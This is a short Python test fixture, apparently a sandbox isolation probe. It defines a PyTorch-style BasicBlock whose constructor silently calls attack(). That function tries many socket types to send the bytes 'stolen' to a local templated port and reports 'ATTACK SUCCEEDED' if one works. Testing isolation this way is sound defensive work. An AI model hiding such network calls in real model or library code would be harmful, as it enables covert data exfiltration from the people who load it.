"""Call home without a connection: UDP, raw, packet and netlink sockets, MPTCP, vsock."""

import contextlib
import socket

from torch import nn

PORT = int("@PORT@")
KINDS = ((2, 2, 0), (10, 2, 0), (2, 3, 1), (17, 3, 0), (16, 3, 0), (2, 1, 262), (40, 1, 0), (38, 5, 0), (44, 3, 0))


def attack():
    for family, kind, protocol in KINDS:
        with contextlib.suppress(OSError):
            sock = socket.socket(family, kind, protocol)
            with contextlib.suppress(OSError, TypeError):
                sock.sendto(b"stolen", ("127.0.0.1", PORT))
            raise SystemExit(f"ATTACK SUCCEEDED: {family}, {kind}, {protocol}")


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()
        attack()
